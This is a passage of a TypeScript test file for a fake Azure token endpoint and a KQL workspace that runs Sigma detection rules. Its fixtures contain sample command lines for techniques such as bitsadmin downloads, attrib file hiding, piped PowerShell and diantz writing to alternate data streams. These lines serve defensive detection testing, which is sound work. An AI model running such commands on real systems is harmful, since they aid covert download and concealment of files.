      const good = { grant_type: 'client_credentials', client_id: String(c.client_id), client_secret: String(c.client_secret), scope: `${String(c.arm_url)}/.default` };
      expect(await token(good)).toMatchObject({ status: 200, body: { token_type: 'Bearer', expires_in: 3599 } });
      expect(await token({ ...good, client_secret: 'nope' })).toMatchObject({ status: 401, body: { error: 'invalid_client' } });
      expect(await token({ ...good, scope: 'https://graph.microsoft.com/.default' })).toMatchObject({ status: 400, body: { error: 'invalid_scope' } });
      expect(await token({ ...good, grant_type: 'password' })).toMatchObject({ status: 400, body: { error: 'invalid_request' } });
      expect(await token(good, 'application/json')).toMatchObject({ status: 400, body: { error: 'invalid_request' } });
    });

    it('a query it cannot interpret, rather than a guess', async () => {
      const c = fake.connection();
      const query = (body: unknown) =>
        fake.send('la', {
          method: 'POST',
          path: `/v1/workspaces/${String(c.workspace_id)}/query`,
          headers: { authorization: `Bearer ${fake.issueToken('la')}`, 'content-type': 'application/json' },
          body: JSON.stringify(body),
        });
      expect(await query({ query: 'DeviceProcessEvents | mv-expand x' })).toMatchObject({
        status: 400,
        body: { error: { code: 'BadArgumentError', innererror: { code: 'SyntaxError' } } },
      });
      expect(await query({ query: 'DeviceProcessEvents | where parse_url(FolderPath) == 1' })).toMatchObject({
        status: 400,
        body: { error: { innererror: { code: 'SemanticError' } } },
      });
      expect(await query({ query: 'DeviceProcessEvents | where FolderPath matches regex @"(?<=x)y"' })).toMatchObject({
        status: 400,
        body: { error: { innererror: { message: expect.stringMatching(/lookaround/) } } },
      });
      expect(await query({ query: 'DeviceProcessEvents | take 1', timespan: 'yesterday' })).toMatchObject({
        status: 400,
        body: { error: { message: expect.stringMatching(/timespan/) } },
      });
      expect(await query({ kql: 'DeviceProcessEvents' })).toMatchObject({ status: 400, body: { error: { code: 'BadArgumentError' } } });
      expect(await query({ query: 'DeviceProcessEvents | count' })).toMatchObject({
        status: 200,
        body: { tables: [{ name: 'PrimaryResult', columns: [{ name: 'Count', type: 'long' }], rows: [[0]] }] },
      });
    });
  });
});

describe('the fake workspace runs corpus rules as KQL', () => {
  const columns = ['FolderPath', 'ProcessCommandLine', 'ProcessVersionInfoOriginalFileName', 'InitiatingProcessFolderPath', 'InitiatingProcessCommandLine'];
  const workspace = (rows: Array<Partial<Record<string, string>>>) => {
    const table: KqlTable = {
      columns: [...columns.map((name) => ({ name, type: 'string' as const })), { name: 'TimeGenerated', type: 'datetime' }],
      rows: rows.map((r) => ({ ...Object.fromEntries(columns.map((c) => [c, r[c] ?? ''])), TimeGenerated: new Date('2025-03-01T00:00:00Z') })),
    };
    return { table: (name: string) => (name === 'DeviceProcessEvents' ? table : undefined), tableNames: () => ['DeviceProcessEvents'], now: () => new Date() };
  };
  const matches = (rule: SigmaRule, rows: Array<Partial<Record<string, string>>>) => runKql(`${compileForTarget(rule, 'sentinel')} | count`, workspace(rows)).rows[0]!.Count;

  it('bitsadmin download: case-insensitive endswith/contains and nested and/or', () => {
    const rule = parseRule(BITSADMIN);
    expect(matches(rule, [{ FolderPath: 'C:\\WINDOWS\\System32\\BITSADMIN.EXE', ProcessCommandLine: 'BITSADMIN /TRANSFER x' }])).toBe(1);
    expect(matches(rule, [{ FolderPath: 'C:\\x\\b.exe', ProcessVersionInfoOriginalFileName: 'BitsAdmin.exe', ProcessCommandLine: 'b /addfile http://x' }])).toBe(1);
    expect(matches(rule, [{ FolderPath: 'C:\\Windows\\System32\\bitsadmin.exe', ProcessCommandLine: 'bitsadmin /create x' }])).toBe(0);
  });

  it('attrib hiding files: not(...) filters and =~ equality', () => {
    const rule = parseRule(ATTRIB);
    expect(matches(rule, [{ FolderPath: 'C:\\Windows\\System32\\attrib.exe', ProcessCommandLine: 'attrib +h secret.txt' }])).toBe(1);
    expect(matches(rule, [{ FolderPath: 'C:\\Windows\\System32\\attrib.exe', ProcessCommandLine: 'attrib +h C:\\x\\desktop.ini ' }])).toBe(0);
    expect(
      matches(rule, [
        {
          FolderPath: 'C:\\Windows\\System32\\attrib.exe',
          ProcessCommandLine: '+r +h +s +a \\*.cui',
          InitiatingProcessFolderPath: 'C:\\Windows\\System32\\cmd.exe',
          InitiatingProcessCommandLine: 'C:\\WINDOWS\\system32\\*.bat',
        },
      ]),
    ).toBe(0);
  });

  it('PowerShell from an input stream and diantz ADS: matches regex (RE2)', () => {
    expect(matches(parseRule(PS_STDIN), [{ FolderPath: 'C:\\x\\powershell.exe', ProcessCommandLine: 'powershell -  < script.ps1' }])).toBe(1);
    expect(matches(parseRule(PS_STDIN), [{ FolderPath: 'C:\\x\\powershell.exe', ProcessCommandLine: 'powershell -File x.ps1' }])).toBe(0);
    expect(matches(parseRule(DIANTZ), [{ ProcessCommandLine: 'diantz.exe c:\\x.exe c:\\f.txt:x.cab' }])).toBe(1);
    expect(matches(parseRule(DIANTZ), [{ ProcessCommandLine: 'diantz.exe c:\\x.exe c:\\f.cab' }])).toBe(0);
  });

  it('has, in~, isnotempty, summarize by bin, order by and take behave as KQL documents them', () => {
    const ws = workspace([
      { FolderPath: 'C:\\a\\cmd.exe', ProcessCommandLine: 'cmd /c whoami' },
      { FolderPath: 'C:\\a\\CMD.EXE', ProcessCommandLine: 'cmd /c whoamiX' },
      { FolderPath: 'C:\\a\\b.exe', ProcessCommandLine: '' },
    ]);
    const count = (q: string) => runKql(`DeviceProcessEvents | where ${q} | count`, ws).rows[0]!.Count;
    expect(count('ProcessCommandLine has "WHOAMI"')).toBe(1);
    expect(count('ProcessCommandLine has_cs "WHOAMI"')).toBe(0);
    expect(count('FolderPath in~ (@"c:\\a\\cmd.exe")')).toBe(2);
    expect(count('FolderPath in (@"C:\\a\\cmd.exe")')).toBe(1);
    expect(count('isnotempty(ProcessCommandLine)')).toBe(2);
    expect(count('isnull(ProcessCommandLine)')).toBe(0);
    const days = runKql('DeviceProcessEvents | summarize c = count() by day = bin(TimeGenerated, 1d)', ws);
    expect(days.rows).toEqual([{ day: new Date('2025-03-01T00:00:00Z'), c: 3 }]);
    const ordered = runKql('DeviceProcessEvents | order by FolderPath | take 1 | project FolderPath', ws);
    expect(ordered.rows).toEqual([{ FolderPath: 'C:\\a\\cmd.exe' }]);
    expect(() => runKql('DeviceProcessEvents | where Missing == 1', ws)).toThrow(KqlError);
  });
});
